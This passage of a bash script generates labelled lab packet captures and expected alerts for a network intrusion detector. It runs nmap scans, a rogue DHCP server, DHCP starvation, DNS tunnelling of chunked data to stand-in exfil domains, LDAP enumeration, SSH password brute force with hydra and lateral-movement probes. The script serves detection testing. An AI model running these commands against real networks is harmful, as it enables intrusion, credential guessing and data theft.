    v6=$(pcount "$name" "ip6")
    [ "$v6" -eq 0 ] || { log "$name: $v6 IPv6 packets"; return 1; }
  fi
  log "$name: $(pcount "$name" "") packets, $size bytes"
}

# Write NAME.expect.json. ALERTS is a JSON array; EXTRA is more JSON members (may be empty).
expect() {
  local name=$1 note=$2 alerts=$3 extra=${4:-}
  {
    printf '{\n  "capture": "%s.pcap",\n  "config": "../picket.yaml",\n' "$name"
    printf '  "note": "%s",\n' "$note"
    [ -n "$extra" ] && printf '%s,\n' "$extra"
    printf '  "alerts": %s\n}\n' "$alerts"
  } >"$WORK/$name.expect.json"
}

# Reset shared state so each capture starts from a quiet, cold network.
reset_lab() {
  local ns
  kill_pidfile "$WORK/scenario.pids"
  for ns in "${ALL_NS[@]}"; do
    nsx "$ns" ip neigh flush all 2>/dev/null
    # The ipv6 scenario turns IPv6 on for a few hosts: off again (their addresses go with it).
    nsx "$ns" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1 2>/dev/null
  done
  # The icmp-tunnel scenario stops the Internet host's kernel from echoing: on again, whatever became of it.
  nsx inet sysctl -qw net.ipv4.icmp_echo_ignore_all=0
  nsx dhcpc ip link set eth0 address 02:77:02:00:00:46
  nsx dhcpc ip addr flush dev eth0
  rm -f "$WORK"/dhclient-*.leases "$WORK/newdev.ip"
  start_dnsmasq_legit
}

# ------------------------------------------------------------- scenarios
# Each scenario runs with `set -e` in a subshell; any failing step fails it.

scenario_scan_syn() {
  nsx ws20 timeout 120 nmap -sS -n -T4 --max-retries 1 10.77.1.10 >"$WORK/logs/nmap-syn.txt"
  stop_capture
  require scan-syn 900 "tcp[tcpflags] == tcp-syn and src host 10.77.2.20 and dst host 10.77.1.10"
  expect scan-syn "nmap -sS (top 1000 TCP ports, -T4) from workstation 10.77.2.20 against server 10.77.1.10; open: 22, 389, 445, all else answered with RST." \
    '[{"rule": "scan.port.vertical", "source": {"ip": "10.77.2.20"}, "destination": {"ip": "10.77.1.10"}, "evidence": {"scan_type": "syn"}}]'
}

scenario_scan_connect() {
  nsx ws22 timeout 120 nmap -sT -n -T4 --max-retries 1 10.77.1.10 >"$WORK/logs/nmap-connect.txt"
  stop_capture
  require scan-connect 900 "tcp[tcpflags] == tcp-syn and src host 10.77.2.22 and dst host 10.77.1.10"
  expect scan-connect "nmap -sT (full connect, top 1000 TCP ports, -T4) from workstation 10.77.2.22 against server 10.77.1.10; the open ports complete the handshake and are reset by the client." \
    '[{"rule": "scan.port.vertical", "source": {"ip": "10.77.2.22"}, "destination": {"ip": "10.77.1.10"}, "evidence": {"scan_type": "connect"}}]'
}

scenario_scan_stealth() {
  # Scans that skip the TCP handshake, one scanner each (top 100 ports of 10.77.1.10, -Pn):
  # FIN, NULL, Xmas, ACK, and a SYN scan padding every probe with 25 bytes of payload.
  nsx ws23 timeout 120 nmap -sF -n -Pn -T4 --top-ports 100 10.77.1.10 >"$WORK/logs/nmap-fin.txt"
  nsx ws24 timeout 120 nmap -sN -n -Pn -T4 --top-ports 100 10.77.1.10 >"$WORK/logs/nmap-null.txt"
  nsx ws25 timeout 120 nmap -sX -n -Pn -T4 --top-ports 100 10.77.1.10 >"$WORK/logs/nmap-xmas.txt"
  nsx ws26 timeout 120 nmap -sA -n -Pn -T4 --top-ports 100 10.77.1.10 >"$WORK/logs/nmap-ack.txt"
  nsx ws27 timeout 120 nmap -sS --data-length 25 -n -Pn -T4 --top-ports 100 10.77.1.10 >"$WORK/logs/nmap-datalen.txt"
  stop_capture
  require scan-stealth 90 "src host 10.77.2.23 and tcp[tcpflags] == tcp-fin"
  require scan-stealth 90 "src host 10.77.2.24 and tcp[tcpflags] == 0"
  require scan-stealth 90 "src host 10.77.2.25 and tcp[tcpflags] == (tcp-fin|tcp-push|tcp-urg)"
  require scan-stealth 90 "src host 10.77.2.26 and tcp[tcpflags] == tcp-ack"
  require scan-stealth 90 "src host 10.77.2.27 and tcp[tcpflags] == tcp-syn and greater 79"
  expect scan-stealth "nmap scans without a handshake, top 100 TCP ports of server 10.77.1.10 (-Pn -T4), one scanner each: -sF FIN from 10.77.2.23, -sN NULL (no flags) from 10.77.2.24, -sX Xmas (FIN|PSH|URG) from 10.77.2.25, -sA ACK from 10.77.2.26; closed ports answer RST, open ones (22, 389, 445) stay silent (for -sA every port answers RST). 10.77.2.27 runs -sS --data-length 25: SYN probes carrying 25 bytes of random payload. Ports above the scanner's source port are not counted (see src/detect/tcp-attempt.ts), so a little under 100 ports count." \
    '[{"rule": "scan.port.vertical", "source": {"ip": "10.77.2.23"}, "destination": {"ip": "10.77.1.10"}, "evidence": {"scan_type": "fin"}},
    {"rule": "scan.port.vertical", "source": {"ip": "10.77.2.24"}, "destination": {"ip": "10.77.1.10"}, "evidence": {"scan_type": "null"}},
    {"rule": "scan.port.vertical", "source": {"ip": "10.77.2.25"}, "destination": {"ip": "10.77.1.10"}, "evidence": {"scan_type": "fin"}},
    {"rule": "scan.port.vertical", "source": {"ip": "10.77.2.26"}, "destination": {"ip": "10.77.1.10"}, "evidence": {"scan_type": "ack"}},
    {"rule": "scan.port.vertical", "source": {"ip": "10.77.2.27"}, "destination": {"ip": "10.77.1.10"}, "evidence": {"scan_type": "syn"}}]'
}

scenario_scan_udp() {
  nsx ws28 timeout 150 nmap -sU -n -Pn -T4 --max-retries 1 --top-ports 100 10.77.1.10 >"$WORK/logs/nmap-udp.txt"
  nsx ws29 timeout 120 nmap -sU -n -Pn -T4 --max-retries 1 -p137 10.77.2.0/24 >"$WORK/logs/nmap-udp-sweep.txt"
  stop_capture
  require scan-udp 90 "udp and src host 10.77.2.28 and dst host 10.77.1.10"
  require scan-udp 25 "udp and src host 10.77.2.29 and dst port 137"
  expect scan-udp "nmap -sU (UDP, top 100 ports, -T4, one retry) from workstation 10.77.2.28 against server 10.77.1.10, whose closed ports answer ICMP port unreachable (rate-limited by the kernel, so most probes look filtered); then nmap -sU -p137 (a NetBIOS name service sweep, as nbtscan does) over 10.77.2.0/24 from workstation 10.77.2.29: the live addresses answer ICMP port unreachable, dead ones only get ARP requests." \
    '[{"rule": "scan.port.vertical", "source": {"ip": "10.77.2.28"}, "destination": {"ip": "10.77.1.10"}, "evidence": {"scan_type": "udp"}},
    {"rule": "scan.port.horizontal", "source": {"ip": "10.77.2.29"}, "destination": {"port": 137}, "evidence": {"scan_type": "udp", "port": 137}}]'
}

scenario_scan_grid() {
  nsx ws20 timeout 120 nmap -sS -n -Pn -T4 --max-retries 1 --top-ports 10 10.77.2.32/28 >"$WORK/logs/nmap-grid.txt"
  stop_capture
  require scan-grid 150 "tcp[tcpflags] == tcp-syn and src host 10.77.2.20 and dst net 10.77.2.32/28"
  expect scan-grid "nmap -sS -Pn --top-ports 10 over 10.77.2.32/28 from workstation 10.77.2.20: 10 ports on each of the 16 workstations .32 to .47 (closed ports reset, 22 is open). No host gets the 15 ports of a vertical scan and no port the 25 hosts of a sweep: a grid." \
    '[{"rule": "scan.port.horizontal", "source": {"ip": "10.77.2.20"}, "evidence": {"pattern": "grid", "scan_type": "syn", "hosts_count": 16, "ports_count": 10}}]'
}

scenario_sweep_445() {
  nsx ws20 timeout 120 nmap -sS -n -Pn -T4 --max-retries 1 -p445 10.77.2.0/24 >"$WORK/logs/nmap-sweep.txt"
  stop_capture
  require sweep-445 25 "tcp[tcpflags] == tcp-syn and src host 10.77.2.20 and dst port 445"
  expect sweep-445 "nmap -sS -Pn -p445 over 10.77.2.0/24 from workstation 10.77.2.20: 31 live addresses answer (10.77.2.21 open; the other workstations, the box at .66 and the router at .254 reset); dead addresses only get ARP requests." \
    '[{"rule": "scan.port.horizontal", "source": {"ip": "10.77.2.20"}, "destination": {"port": 445}, "evidence": {"scan_type": "syn", "port": 445}}]'
}

scenario_arp_scan() {
  nsx ws20 timeout 120 nmap -sn -PR -n 10.77.2.0/24 >"$WORK/logs/nmap-arp.txt"
  stop_capture
  require arp-scan 200 "arp[6:2] == 1 and ether src $MAC_WS20"
  expect arp-scan "nmap -sn -PR (ARP ping) of 10.77.2.0/24 from workstation 10.77.2.20: one ARP request per address (254, a few repeated), replies from the 31 live addresses." \
    '[{"rule": "scan.arp", "source": {"ip": "10.77.2.20", "mac": "'"$MAC_WS20"'"}}]'
}

scenario_dhcp_rogue() {
  cat >"$WORK/dnsmasq-rogue.conf" <<EOF
# Rogue DHCP server on a workstation: hands out itself as gateway and resolver.
interface=eth0
bind-interfaces
listen-address=10.77.2.66
port=0
no-resolv
no-hosts
no-ping
log-dhcp
log-facility=$WORK/logs/dnsmasq-rogue.log
pid-file=$WORK/dnsmasq-rogue.pid
dhcp-leasefile=$WORK/dnsmasq-rogue.leases
user=root
dhcp-range=10.77.2.200,10.77.2.220,255.255.255.0,10m
dhcp-option=option:router,10.77.2.66
dhcp-option=option:dns-server,10.77.2.66
EOF
  : >"$WORK/dnsmasq-rogue.leases"
  scen_bg rogue dnsmasq -k -C "$WORK/dnsmasq-rogue.conf"
  wait_listen_udp rogue 67
  # A reserved laptop and then an unknown one ask for an address; both servers offer.
  run_dhclient dhcpc laptop-70
  nsx dhcpc ip link set eth0 address 02:77:02:00:00:47
  run_dhclient dhcpc visitor-47
  stop_capture
  require dhcp-rogue 2 "udp src port 67 and src host 10.77.2.66"
  require dhcp-rogue 2 "udp src port 67 and src host 10.77.1.1"
  expect dhcp-rogue "dnsmasq on 10.77.2.66 (a workstation) answers DHCP alongside the authorised 10.77.1.1; two clients (02:77:02:00:00:46, 02:77:02:00:00:47) run ISC dhclient and receive offers from both." \
    '[{"rule": "dhcp.rogue_server", "source": {"ip": "10.77.2.66", "mac": "'"$MAC_ROGUE"'"}, "evidence": {"mode": "unauthorized"}}]'
}

scenario_dhcp_flood() {
  local i mac
  # Bounded starvation attempt: 120 client MACs in a row against a pool of 100.
  for i in $(seq 1 120); do
    mac=$(printf '02:f1:00:00:%02x:%02x' $((i / 256)) $((i % 256)))
    nsx dhcpc ip link set eth0 address "$mac"
    nsx dhcpc timeout 5 busybox udhcpc -i eth0 -n -q -t 1 -T 1 -s "$WORK/noop.sh" >/dev/null 2>&1 || true
  done
  stop_capture
  require dhcp-flood 120 "udp dst port 67 and ether[6:4] == 0x02f10000"
  expect dhcp-flood "busybox udhcpc run 120 times in about 30 s, each time from a new MAC 02:f1:00:00:00:01..02:f1:00:00:00:78 (DISCOVER, then REQUEST when offered); the pool of 100 runs dry and the last clients get no offer. The clients have no address (0.0.0.0): the source is one of the flood MACs 02:f1:00:00:00:xx. Side effect worth knowing: the DHCP server 10.77.1.1 ARPs for each of the 100 addresses it offers, which looks like an ARP scan from 10.77.1.1." \
    '[{"rule": "dhcp.excessive_requests", "source": {}, "evidence": {"mode": "starvation"}}]'
}

scenario_dhcp_flip() {
  run() { # mac hostname requested-address (as a client that remembers its lease)
    nsx dhcpc ip link set eth0 address "$1"
    nsx dhcpc timeout 10 busybox udhcpc -i eth0 -n -q -t 3 -T 1 -r "$3" -x "hostname:$2" -s "$WORK/noop.sh" >/dev/null 2>&1
    sleep 1
  }
  run 02:77:02:00:00:3c finance-pc 10.77.2.60
  run 02:77:02:00:00:3c build-box 10.77.2.60   # same MAC, second name
  run 02:77:02:00:00:3c hr-laptop 10.77.2.60   # third name
  run 02:77:02:00:00:3d finance-pc 10.77.2.61  # the name moves to a second MAC
  run 02:77:02:00:00:40 finance-pc 10.77.2.64  # and a third
  run 02:77:02:00:00:3e kali 10.77.2.62        # watched hostname
  run 02:77:02:00:00:3f parrot-vm 10.77.2.63   # matches "parrot*"
  stop_capture
  require dhcp-flip 7 "udp src port 67 and src host 10.77.1.1"
  expect dhcp-flip "busybox udhcpc, one second between clients, each asking for its reserved address (option 50) and naming itself (option 12) in DISCOVER and REQUEST: MAC 02:77:02:00:00:3c (10.77.2.60) is finance-pc, then build-box, then hr-laptop; finance-pc then comes from 02:77:02:00:00:3d (10.77.2.61) and 02:77:02:00:00:40 (10.77.2.64); 02:77:02:00:00:3e (10.77.2.62) is kali and 02:77:02:00:00:3f (10.77.2.63) parrot-vm." \
    '[{"rule": "dhcp.hostname_mac_flip", "source": {"ip": "10.77.2.60", "mac": "02:77:02:00:00:3c"}, "evidence": {"mode": "mac_renamed", "host_names": ["finance-pc", "build-box", "hr-laptop"]}},
    {"rule": "dhcp.hostname_mac_flip", "source": {"ip": "10.77.2.64", "mac": "02:77:02:00:00:40"}, "evidence": {"mode": "name_moved", "host_name": "finance-pc", "macs": ["02:77:02:00:00:3c", "02:77:02:00:00:3d", "02:77:02:00:00:40"]}},
    {"rule": "dhcp.watch_hostname", "source": {"ip": "10.77.2.62", "mac": "02:77:02:00:00:3e"}, "evidence": {"host_name": "kali"}},
    {"rule": "dhcp.watch_hostname", "source": {"ip": "10.77.2.63", "mac": "02:77:02:00:00:3f"}, "evidence": {"host_name": "parrot-vm"}}]'
}

scenario_dns_flood() {
  local i
  : >"$WORK/dig-flood.txt"; : >"$WORK/dig-sweep.txt"
  # 600 names x (A, AAAA) = 1200 queries from 10.77.2.20 (the default threshold is 1000 in 5 min).
  for i in $(seq 1 600); do
    printf 'host%03d.cdn-assets.example.com A\nhost%03d.cdn-assets.example.com AAAA\n' "$i" "$i" >>"$WORK/dig-flood.txt"
  done
  # Reverse sweep of 10.77.2.0/24 (254 PTR) plus 60 TXT lookups = 314 queries from 10.77.2.22.
  for i in $(seq 1 254); do printf -- '-x 10.77.2.%d\n' "$i" >>"$WORK/dig-sweep.txt"; done
  for i in $(seq 1 60); do printf 'svc%02d.example.com TXT\n' "$i" >>"$WORK/dig-sweep.txt"; done
  nsx ws20 timeout 120 dig @10.77.1.1 +tries=1 +time=1 +noall +answer -f "$WORK/dig-flood.txt" >/dev/null
  nsx ws22 timeout 120 dig @10.77.1.1 +tries=1 +time=1 +noall +answer -f "$WORK/dig-sweep.txt" >/dev/null
  stop_capture
  require dns-flood 1150 "udp dst port 53 and src host 10.77.2.20"
  require dns-flood 300 "udp dst port 53 and src host 10.77.2.22"
  expect dns-flood "dig -f batches against the dnsmasq resolver 10.77.1.1: 10.77.2.20 sends 1,200 A/AAAA queries for 600 names in a few seconds; 10.77.2.22 sends 254 PTR queries (reverse sweep of 10.77.2.0/24, answered NXDOMAIN except known hosts) and 60 TXT queries." \
    '[{"rule": "dns.excessive_queries", "source": {"ip": "10.77.2.20"}, "destination": {"ip": "10.77.1.1", "port": 53}},
    {"rule": "dns.excessive_ptr_txt", "source": {"ip": "10.77.2.22"}, "destination": {"ip": "10.77.1.1", "port": 53}}]'
}

scenario_dns_tunnel() {
  local i label
  # What iodine's default NULL-record carrier sends: base32 data in the labels under one tunnel
  # domain, 120 NULL queries in a few seconds from 10.77.2.25 (below any address-lookup threshold).
  : >"$WORK/dig-tunnel.txt"
  for i in $(seq 1 120); do
    label=$(head -c 60 /dev/urandom | base32 | tr -d '=\n' | tr 'A-Z' 'a-z' | head -c 90)
    printf 'p%s.%s.t.tunnel.example.net NULL\n' "${label:0:50}" "${label:50:40}" >>"$WORK/dig-tunnel.txt"
  done
  nsx ws25 timeout 120 dig @10.77.1.1 +tries=1 +time=1 +noall +answer -f "$WORK/dig-tunnel.txt" >/dev/null
  stop_capture
  require dns-tunnel 120 "udp dst port 53 and src host 10.77.2.25"
  expect dns-tunnel "dig -f from 10.77.2.25 against the resolver 10.77.1.1: 120 NULL-type queries (iodine's default carrier) for long random base32 names under t.tunnel.example.net, in a few seconds." \
    '[{"rule": "dns.excessive_ptr_txt", "source": {"ip": "10.77.2.25"}, "destination": {"ip": "10.77.1.1", "port": 53}, "evidence": {"trigger": "NULL"}},
      {"rule": "dns.tunnel", "source": {"ip": "10.77.2.25"}, "destination": {"ip": "10.77.1.1", "port": 53}, "evidence": {"domain": "example.net"}}]'
}

scenario_dns_tunnel_short() {
  local i chunk
  # A tunnel that keeps every name short to pass under long-label checks: a file sent 15 bytes at a
  # time as one 24-character base32 label after a sequence number, in A queries under
  # s.exfil.example.net (the lab resolver answers every example.net name), 150 queries from 10.77.2.23.
  : >"$WORK/dig-short.txt"
  head -c 2400 /dev/urandom | base32 -w0 | tr -d '=' | tr 'A-Z' 'a-z' | fold -w 24 | head -n 150 >"$WORK/short-chunks.txt"
  i=0
  while read -r chunk; do
    i=$((i + 1))
    printf '%d.%s.s.exfil.example.net A\n' "$i" "$chunk" >>"$WORK/dig-short.txt"
  done <"$WORK/short-chunks.txt"
  nsx ws23 timeout 120 dig @10.77.1.1 +tries=1 +time=1 +noall +answer -f "$WORK/dig-short.txt" >/dev/null
  stop_capture
  require dns-tunnel-short 150 "udp dst port 53 and src host 10.77.2.23"
  expect dns-tunnel-short "dig -f from 10.77.2.23 against the resolver 10.77.1.1: 150 A queries, each a sequence number and a 24-character base32 label (15 bytes of a file) under s.exfil.example.net: a tunnel whose names stay under the long-label mark (about 30 characters of subdomain each)." \
    '[{"rule": "dns.tunnel", "source": {"ip": "10.77.2.23"}, "destination": {"ip": "10.77.1.1", "port": 53}, "evidence": {"domain": "example.net", "chunks": "short"}}]' \
    '  "exclusive": true,
  "allow": ["device.new"]'
}

scenario_ldap_enum() {
  local i filters=()
  for i in $(seq 1 30); do filters+=("$(printf '(uid=user%02d)' "$i")"); done
  filters+=('(objectClass=person)' '(objectClass=groupOfNames)' '(cn=admins)' '(member=*)'
    '(uid=administrator)' '(cn=domain admins)' '(uid=adm*)' '(cn=*admin*)' '(objectClass=organizationalUnit)' '(uid=alice)')
  # 6 rounds over 40 filters = 240 searches (the default threshold is 200 in 5 min),
  # one ldapsearch (bind, search, unbind) each.
  # (ldapsearch -f would keep one connection, but OpenLDAP 2.5's -f ignores the file's filters.)
  for i in 1 2 3 4 5 6; do
    for f in "${filters[@]}"; do
      ldaps ws20 -D "uid=user05,ou=people,$LDAP_BASE" -w pw-user05 "$f" 1.1 >/dev/null
    done
  done
  stop_capture
  require ldap-enum 240 "tcp[tcpflags] == tcp-syn and src host 10.77.2.20 and dst port 389"
  expect ldap-enum "ldapsearch from workstation 10.77.2.20 against slapd on 10.77.1.10: 240 connections in a few seconds, each a simple bind as user05, one search (every user by uid, then all persons, groups, admins and admin-like names; attributes 1.1 = DNs only) and an unbind." \
    '[{"rule": "ldap.excessive_queries", "source": {"ip": "10.77.2.20"}, "destination": {"ip": "10.77.1.10", "port": 389}}]'
}

scenario_ldap_sealed() {
  local i
  # SASL DIGEST-MD5 binds that negotiate its encryption layer (SSF 128), as Windows seals LDAP with
  # GSS-SPNEGO: every search and result after the bind is encrypted. 30 enumeration rounds from
  # 10.77.2.21, each one connection paging through the whole directory 5 entries at a time.
  for i in $(seq 1 30); do
    nsx ws21 timeout 15 ldapsearch -LLL -Q -H ldap://10.77.1.10/ -b "$LDAP_BASE" -Y DIGEST-MD5 -U user07 -w pw-user07 \
      -E pr=5/noprompt '(objectClass=*)' cn mail member >/dev/null
  done
  # 10.77.2.22 looks itself up twice, sealed too: a client's ordinary use.
  for i in 1 2; do
    nsx ws22 timeout 15 ldapsearch -LLL -Q -H ldap://10.77.1.10/ -b "$LDAP_BASE" -Y DIGEST-MD5 -U user08 -w pw-user08 '(uid=user08)' mail >/dev/null
  done
  stop_capture
  require ldap-sealed 30 "tcp[tcpflags] == tcp-syn and src host 10.77.2.21 and dst port 389"
  expect ldap-sealed "ldapsearch (OpenLDAP 2.5) from 10.77.2.21 to slapd on 10.77.1.10, bound with SASL DIGEST-MD5 and its encryption layer (as Windows seals LDAP with GSS-SPNEGO): 30 connections, each paging through the whole directory five entries at a time (9 sealed requests, 36 entries); the searches cannot be read, their messages are counted. 10.77.2.22 makes two sealed lookups of its own entry: no alert. device.new may fire for the server network's hosts, whose first frames these are." \
    '[{"rule": "ldap.excessive_queries", "source": {"ip": "10.77.2.21"}, "destination": {"ip": "10.77.1.10", "port": 389}, "evidence": {"sealed_mechanisms": ["DIGEST-MD5"]}}]' \
    '  "exclusive": true,
  "allow": ["device.new"]'
}

scenario_ssh_brute() {
  local i ok=0
  # 40 wrong passwords, one connection each (Zeek's heuristic sees one failure per connection).
  for i in $(seq 1 40); do
    nsx ws20 timeout 10 sshpass -p "guess-$i" ssh "${ssh_opts[@]}" "$LAB_USER@10.77.1.10" true 2>/dev/null && ok=$((ok + 1))
  done
  stop_capture
  [ "$ok" -eq 0 ] || { log "ssh-brute: a wrong password was accepted"; return 1; }
  require ssh-brute 40 "tcp[tcpflags] == tcp-syn and src host 10.77.2.20 and dst port 22"
  expect ssh-brute "sshpass + OpenSSH client from 10.77.2.20 against OpenSSH 9.2 on 10.77.1.10: 40 connections, each trying one wrong password for labuser and failing." \
    '[{"rule": "auth.bruteforce", "source": {"ip": "10.77.2.20"}, "destination": {"ip": "10.77.1.10", "port": 22}, "evidence": {"service": "ssh"}}]'
}

scenario_ssh_hydra() {
  local i
  # hydra reuses each connection for as many passwords as sshd allows (MaxAuthTries 6: the
  # "none" probe and 5 passwords), so 40 guesses take only about 11 connections.
  for i in $(seq 1 40); do printf 'Guess-%02d\n' "$i"; done >"$WORK/hydra-passwords.txt"
  # -I: ignore a restore file; hydra writes its restore file into the working directory.
  (cd "$WORK" && nsx ws24 timeout 240 hydra -I -l "$LAB_USER" -P "$WORK/hydra-passwords.txt" -t 4 ssh://10.77.1.10 >"$WORK/logs/hydra-ssh.txt" 2>&1) || true
  stop_capture
  grep -q "0 valid password" "$WORK/logs/hydra-ssh.txt" || { log "ssh-hydra: $(tail -n 3 "$WORK/logs/hydra-ssh.txt")"; return 1; }
  require ssh-hydra 8 "tcp[tcpflags] == tcp-syn and src host 10.77.2.24 and dst port 22"
  expect ssh-hydra "hydra 9.4 (-t 4) from 10.77.2.24 against OpenSSH 9.2 on 10.77.1.10: 40 wrong passwords for labuser over about 11 connections, up to 5 per connection; sshd's delays after failures stretch it over about a minute." \
    '[{"rule": "auth.bruteforce", "source": {"ip": "10.77.2.24"}, "destination": {"ip": "10.77.1.10", "port": 22}, "evidence": {"service": "ssh", "mode": "failures"}}]'
}

scenario_smb_internet() {
  smbc ws20 -N -p 445 -L //198.51.100.10 >/dev/null 2>&1 || true
  smbc ws20 -N -p 445 //198.51.100.10/public -c 'ls; get readme.txt /dev/null' >/dev/null 2>&1
  stop_capture
  require smb-internet 5 "tcp dst port 445 and src host 10.77.2.20 and dst host 198.51.100.10"
  expect smb-internet "smbclient (guest) from workstation 10.77.2.20 to Samba on the Internet host 198.51.100.10: a share listing and a file read over TCP 445, through the router 10.77.2.254." \
    '[{"rule": "smb.internet", "source": {"ip": "10.77.2.20"}, "destination": {"ip": "198.51.100.10", "port": 445}}]'
}

scenario_smb_files() {
  # A tool copied to a share, then ransomware-style renames, in SMB3; a write and a read in SMB1.
  head -c 70000 /dev/urandom >"$WORK/tool.exe"
  echo "budget" >"$WORK/budget.xlsx"
  echo "notes" >"$WORK/notes.txt"
  smbc ws22 -N -p 445 //10.77.1.20/data -c "mkdir tools; put $WORK/tool.exe tools\\svchelper.exe; get tools\\svchelper.exe /dev/null; rename tools\\svchelper.exe tools\\svc.exe; del tools\\svc.exe; put $WORK/budget.xlsx budget.xlsx; rename budget.xlsx budget.xlsx.locked; ls" >/dev/null 2>&1
  smbc ws22 -N -p 445 -m NT1 --option='client min protocol=NT1' //10.77.1.20/data -c "put $WORK/notes.txt notes.txt; get notes.txt /dev/null; ls" >/dev/null 2>&1
  stop_capture
  require smb-files 10 "tcp dst port 445 and src host 10.77.2.22 and dst host 10.77.1.20"
  expect smb-files "smbclient (guest) from workstation 10.77.2.22 to Samba on the backup server 10.77.1.20, share data. SMB3: mkdir tools, a 70000-byte tools\\\\svchelper.exe written, read back, renamed to tools\\\\svc.exe and deleted; budget.xlsx written and renamed to budget.xlsx.locked. SMB1 (NT1): notes.txt written and read back. Workstation to server on 445 is allowed by the policy: no alert may fire, except device.new on a replay without saved state." \
    '[]' '  "exclusive": true,
  "allow": ["device.new"]'
}

scenario_lateral() {
  # X.224 Connection Request with an mstshash cookie and an RDP_NEG_REQ (TLS|CredSSP), as mstsc sends it.
  local rdp_cr='\x03\x00\x00\x2b\x26\xe0\x00\x00\x00\x00\x00Cookie: mstshash=alice\r\n\x01\x00\x08\x00\x03\x00\x00\x00'
  # Workstation -> workstation on SMB and RDP.
  smbc ws20 -N -p 445 //10.77.2.21/public -c 'ls' >/dev/null 2>&1
  # stdin stays open a moment: ncat's --sh-exec drops the reply once the client half-closes.
  { printf "$rdp_cr"; sleep 1; } | nsx ws20 nc -w 3 10.77.2.21 3389 >/dev/null
  # Server -> workstation on SMB and WinRM (a WS-Management POST, answered 401 Negotiate).
  smbc srv -N -p 445 //10.77.2.21/public -c 'ls' >/dev/null 2>&1
  curl_ua srv "Microsoft WinRM Client" http://10.77.2.21:5985/wsman -X POST \
    -H 'Content-Type: application/soap+xml;charset=UTF-8' --data '<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"/>'
  # Workstation -> server on SSH (an alert in the segmentation policy), a successful login.
  nsx ws20 timeout 15 sshpass -p "$LAB_PASS" ssh "${ssh_opts[@]}" "$LAB_USER@10.77.1.10" 'id -un' >/dev/null
  stop_capture
  require lateral 3 "tcp dst port 445 and src host 10.77.2.20 and dst host 10.77.2.21"
  require lateral 1 "tcp src port 3389 and src host 10.77.2.21 and tcp[tcpflags] & tcp-push != 0"
  require lateral 3 "tcp dst port 445 and src host 10.77.1.10 and dst host 10.77.2.21"
  require lateral 1 "tcp src port 5985 and src host 10.77.2.21 and tcp[tcpflags] & tcp-push != 0"
  require lateral 5 "tcp dst port 22 and src host 10.77.2.20 and dst host 10.77.1.10"
  expect lateral "Every connection is a session with payload both ways. 10.77.2.20 -> 10.77.2.21: smbclient on 445, and an RDP X.224 Connection Request (cookie mstshash=alice) on 3389 answered by a Connection Confirm; server 10.77.1.10 -> 10.77.2.21: smbclient on 445, and a WinRM POST /wsman on 5985 answered 401 Negotiate; 10.77.2.20 -> 10.77.1.10: a successful SSH login on 22 (workstations -> servers on 22 is an alert in the segmentation policy)." \
    '[{"rule": "lateral.workstation_to_workstation", "source": {"ip": "10.77.2.20"}, "destination": {"ip": "10.77.2.21"}, "evidence": {"ports": [445, 3389]}},
    {"rule": "lateral.server_to_workstation", "source": {"ip": "10.77.1.10"}, "destination": {"ip": "10.77.2.21"}, "evidence": {"ports": [445, 5985]}},
    {"rule": "net.inter_segment", "source": {"ip": "10.77.2.20"}, "destination": {"ip": "10.77.1.10", "port": 22}}]'
}

scenario_new_device() {
  local ip
  # The device is plugged in only now, while the capture runs.
  ns_create newdev && ns_plug newdev "$MAC_NEWDEV"
  sleep 0.5
  run_dhclient newdev rpi-sensor "$WORK/dhclient-addr.sh"
  ip=$(cat "$WORK/newdev.ip" 2>/dev/null || true)
  [ -n "$ip" ] || { log "new-device: no lease"; return 1; }
  nsx newdev ip route add 10.77.2.0/24 dev eth0
  nsx newdev arping -U -c 1 -i eth0 -S "$ip" "$ip" >/dev/null 2>&1 || true
  nsx newdev arping -c 2 -i eth0 10.77.1.254 >/dev/null 2>&1 || true
  nsx newdev dig @10.77.1.1 +tries=1 +time=2 srv.lab.example A >/dev/null
  nsx newdev ping -c 2 -i 0.3 -W 1 10.77.1.10 >/dev/null
  stop_capture
  require new-device 2 "ether src $MAC_NEWDEV and udp dst port 67"
  require new-device 2 "arp and ether src $MAC_NEWDEV"
  expect new-device "A device with the never-seen MAC $MAC_NEWDEV is plugged into the servers network, runs ISC dhclient (hostname rpi-sensor) and gets $ip from 10.77.1.1, announces itself by gratuitous ARP, ARPs the gateway, asks DNS and pings 10.77.1.10. Every other MAC in this capture is already in benign.pcap: learn benign.pcap first (baseline mode, state kept), then replay this capture with that state and no learning period." \
    '[{"rule": "device.new", "source": {"ip": "'"$ip"'", "mac": "'"$MAC_NEWDEV"'"}, "evidence": {"network": "servers", "hostname": "rpi-sensor"}}]' \
    '  "baseline": ["benign.pcap"]'
}

scenario_benign() {
  local i
  # Known workstations renew their reserved addresses (hostnames are their own).
  run_dhclient ws20 ws20
  run_dhclient ws21 ws21
  # Ordinary DNS: a handful of lookups a minute per host.
  for i in 1 2 3; do
    nsx ws20 dig @10.77.1.1 +tries=1 +time=2 www.example.com A >/dev/null
    nsx ws21 dig @10.77.1.1 +tries=1 +time=2 files.lab.example A >/dev/null
    nsx ws22 dig @10.77.1.1 +tries=1 +time=2 mail.example.net AAAA >/dev/null
    sleep 1
  done
  # Web browsing with a browser UA.
  for i in 1 2; do
    curl_ua ws20 "$BROWSER_UA" http://www.example.com/ --resolve www.example.com:80:198.51.100.10
    curl_ua ws21 "$BROWSER_UA" http://www.example.org/robots.txt --resolve www.example.org:80:198.51.100.10
    sleep 1
  done
  # Admin SSH logins that succeed, server to server (allowed by the policy).
  for i in 1 2; do
    nsx bak timeout 15 sshpass -p "$LAB_PASS" ssh "${ssh_opts[@]}" "$LAB_USER@10.77.1.10" 'uptime' >/dev/null
    sleep 1
  done
  # File shares: workstations read the server's share on 445 (allowed).
  for i in 20 21 22; do
    smbc "ws$i" -N -p 445 //10.77.1.10/public -c 'ls; get readme.txt /dev/null' >/dev/null 2>&1
    sleep 0.5
  done
  # Directory: user binds and a few searches.
  ldaps ws20 -D "uid=user01,ou=people,$LDAP_BASE" -w pw-user01 '(uid=user01)' cn mail >/dev/null
  ldaps ws21 -D "uid=user02,ou=people,$LDAP_BASE" -w pw-user02 '(cn=finance)' member >/dev/null
  ldaps ws22 -D "uid=user03,ou=people,$LDAP_BASE" -w pw-user03 '(uid=user03)' mail >/dev/null
  # The new-device scenario's peers must all be known: ARP and ping the gateway and servers.
  nsx bak arping -c 1 -i eth0 10.77.1.254 >/dev/null 2>&1 || true
  nsx ws21 ping -c 1 -W 1 10.77.2.254 >/dev/null
  nsx bak ping -c 1 -W 1 10.77.1.1 >/dev/null
